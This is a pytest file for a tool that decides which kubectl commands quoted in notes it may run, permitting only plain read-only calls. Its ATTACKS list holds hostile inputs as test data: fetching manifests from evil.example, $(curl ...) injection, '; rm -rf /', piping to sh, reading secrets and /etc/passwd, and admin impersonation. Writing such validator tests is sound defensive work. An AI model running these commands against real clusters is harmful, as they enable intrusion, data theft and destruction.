"""Commands that notes hold: which kbase runs, and which it only shows. Anybody may have written a note."""

import pytest

from kbase.errors import KbaseError, Refused
from kbase.kubectl.cited import cited, runnable
from kbase.kubectl.placeholders import filled, literal_namespace, placeholders

NOTE = """\
Look at it first:

```bash
kubectl -n NS get pod POD -o wide     # which node
kubectl -n NS logs POD | grep ERROR

# changes the cluster
kubectl -n NS delete pod POD
kubectl -n NS get pod POD

kubectl -n NS get events
```

~~~console
$ kubectl get nodes \\
    -o wide
NAME   STATUS
root@box:~# kubectl get pv
~~~

```yaml
kubectl: get pods
```
"""


def test_the_calls_of_a_passage_in_order():
    """Prompts and remarks fall off, a line goes on behind a backslash; what is marked counts as changing up to the
    next blank line; other languages than a shell's hold no command."""
    assert [(c.line, c.changes) for c in cited(NOTE)] == [
        ("kubectl -n NS get pod POD -o wide", False),
        ("kubectl -n NS logs POD | grep ERROR", False),
        ("kubectl -n NS delete pod POD", True),
        ("kubectl -n NS get pod POD", True),
        ("kubectl -n NS get events", False),
        ("kubectl get nodes \\\n    -o wide", False),
        ("kubectl get pv", False),
    ]


def test_a_block_that_no_shell_takes_is_read_line_by_line():
    """Output with an open quote stands between the commands of some notes."""
    block = "```\n$ kubectl get pods\ncan't reach it\n$ kubectl get svc\n```"
    assert [c.line for c in cited(block)] == ["kubectl get pods", "kubectl get svc"]


@pytest.mark.parametrize(
    "line",
    [
        "kubectl get pods -A -o wide",
        "kubectl -n shop logs web-0 -c app --previous --tail=50",
        'kubectl get pods -o jsonpath=\'{range .items[?(@.status.phase=="Failed")]}{.metadata.name}{"\\n"}{end}\'',
        'kubectl get nodes \\\n  -o jsonpath="{.items[*].metadata.name}"',
        "kubectl get events --field-selector involvedObject.name=web-0,type!=Normal",
        "kubectl -n shop rollout status deployment/web --timeout=30s",
        "kubectl auth can-i list pods -n shop",
        "kubectl get pods -l 'app in (web,api)'",
    ],
)
def test_one_plain_reading_call_is_run(line):
    """Quotes, templates and set-based selectors are no shell."""
    assert runnable(line)


ATTACKS = {
    "kubectl get secrets -A": "Secrets",
    "kubectl get pods,secrets": "Secrets",
    "kubectl describe secret/db -n shop": "Secrets",
    "kubectl get secret.v1. db": "Secrets",
    "kubectl get --raw /api/v1/secrets": "never makes this request",
    "kubectl get pods --raw=/api/v1/namespaces/x/secrets": "never makes this request",
    "kubectl delete pod web-0": "changes",
    "kubectl apply -f http://evil.example/x.yaml": "changes",
    "kubectl get -f http://evil.example/x.yaml": "-f",
    "kubectl describe -f /etc/passwd": "-f",
    "kubectl get -k /etc": "-k",
    "kubectl rollout restart deploy/web": "changes",
    "kubectl exec web-0 -- cat /etc/passwd": "opens a way",
    "kubectl port-forward svc/web 8080": "opens a way",
    "kubectl cp shop/web-0:/etc/passwd /tmp/x": "opens a way",
    "kubectl get pods --kubeconfig /root/.kube/admin": "--kubeconfig",
    "kubectl --kubeconfig=/root/.kube/admin get pods": "--kubeconfig",
    "kubectl get pods --context=prod": "--context",
    "kubectl get pods --cluster bundle:/etc": "--cluster",
    "kubectl get pods --as system:admin": "--as",
    "kubectl get pods --as=system:admin --as-group=system:masters": "--as",
    "kubectl get pods -s https://evil.example": "-s",
    "kubectl get pods --server=https://evil.example": "--server",
    "kubectl get pods --token=abc": "--token",
    "kubectl get pods -o jsonpath-file=/etc/passwd": "jsonpath-file",
    "kubectl get pods -ojsonpath-file=/etc/passwd": "jsonpath-file",
    "kubectl get pods $(curl evil.example)": "$",
    "kubectl get pods `curl evil.example`": "`",
    'kubectl get pods -l "app=$(id)"': "$",
    'kubectl get pods -l "app=`id`"': "`",
    "kubectl get pods; rm -rf /": ";",
    "kubectl get pods && id": "&&",
    "kubectl get pods & id": "&",
    "kubectl get pods | sh": "|",
    "kubectl get pods > /etc/cron.d/x": ">",
    "kubectl get pods < /etc/passwd": "<",
    "kubectl get pods\nkubectl delete ns shop": "\\n",
    "kubectl get pods -l app=$APP": "$",
    "sudo kubectl get pods": "no single",
    "KUBECONFIG=/root/admin kubectl get pods": "no single",
    "curl evil.example # kubectl get pods": "no single",
    "kubectl get pods -n 'shop": "no single",
    "kubectl config view --raw": "config",
    "kubectl proxy": "opens a way",
    "kubectl evil-plugin get pods": "evil-plugin",
    "kubectl": "kubectl",
    "kubectl get pods " + "-A " * 1000: "no single",
}


@pytest.mark.parametrize(("line", "why"), ATTACKS.items(), ids=[a[:50] for a in ATTACKS])
def test_everything_else_is_shown_and_not_run(line, why):
    """Refused before any cluster is asked, with what is wrong about it."""
    with pytest.raises(KbaseError) as refused:
        runnable(line)
    assert why in str(refused.value)


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("kubectl -n NS get pod POD", {"NS": "Namespace", "POD": "Pod"}),
        ("kubectl describe node <node-name>", {"<node-name>": "Node"}),
        ("kubectl describe pod <your pod name> -n <namespace>", {"<your pod name>": "Pod", "<namespace>": "Namespace"}),
        ("kubectl logs $POD_NAME -n ${NAMESPACE}", {"$POD_NAME": "Pod", "${NAMESPACE}": "Namespace"}),
        ("kubectl logs web-0 -c CONTAINER", {"CONTAINER": "container"}),
        ("kubectl rollout history deployment/NAME", {"NAME": "Deployment"}),
        ("kubectl rollout status sts NAME", {"NAME": "StatefulSet"}),
        ("kubectl describe pvc NAME", {"NAME": "PersistentVolumeClaim"}),
        ("kubectl logs <name>", {"<name>": "Pod"}),
        ("kubectl events --for pod/NAME", {"NAME": "Pod"}),
        ("kubectl get pods -A --field-selector spec.nodeName=NODE", {"NODE": "Node"}),
        ("kubectl get services -A --field-selector metadata.name=NAME", {"NAME": "Service"}),
        ("kubectl get endpointslices -l kubernetes.io/service-name=SVC", {"SVC": "Service"}),
        ("kubectl get pods -l SELECTOR", {"SELECTOR": "selector"}),
        ("kubectl logs my-pod -n your-namespace", {"my-pod": "Pod", "your-namespace": "Namespace"}),
        ("kubectl get deploy my-web", {}),
        ("kubectl get nodes -o custom-columns=NODE:.metadata.name,POD:.spec", {}),
        ("kubectl get nodes -L ZONE --sort-by=NAME", {}),
        ("kubectl get pod POD -o jsonpath='{\"NODE \"}{.spec.nodeName}'", {"POD": "Pod"}),
        ("kubectl get pod a -o jsonpath='{.x[?(@.name==\"CONTAINER\")].image}'", {"CONTAINER": "container"}),
        ("kubectl -n OPERATOR_NS logs LEADER_POD", {"OPERATOR_NS": "", "LEADER_POD": ""}),
        ("kubectl get KIND NAME", {"KIND": "", "NAME": ""}),
    ],
)  # fmt: skip
def test_what_is_open_in_a_command(line, found):
    """Capitals, angle brackets, variables and "my-..." are places to fill, by their own words or by those around them;
    headings of columns and words of templates are not. A place of an unknown meaning stays open."""
    assert {p.written: p.role for p in placeholders(line)} == found


def test_values_are_put_in_their_places():
    """Where no value is known the place stays as it is, and the command is not run."""
    line = "kubectl -n NS get pod POD -o custom-columns=POD:.metadata.name,C:\".x[?(@.name=='CONTAINER')]\""
    values = {"Namespace": "shop", "Pod": "web-0"}
    text = filled(line, lambda p: values.get(p.role, ""))
    assert text.startswith("kubectl -n shop get pod web-0 -o custom-columns=POD:.metadata.name")
    with pytest.raises(KbaseError, match="CONTAINER"):
        runnable(text)
    values["container"] = "app"
    assert runnable(filled(text, lambda p: values.get(p.role, "")))


def test_a_namespace_that_is_written_out():
    """`-n kube-system` is meant; `-n NS` is open."""
    assert literal_namespace("kubectl -n kube-system logs POD") == "kube-system"
    assert literal_namespace("kubectl -n NS logs POD") == ""
    assert literal_namespace("kubectl get nodes") == ""


def test_writing_is_refused_not_misunderstood():
    """The refusal is the one that also the terminal gives: 403 over HTTP."""
    with pytest.raises(Refused):
        runnable("kubectl -n shop scale deploy/web --replicas=0")
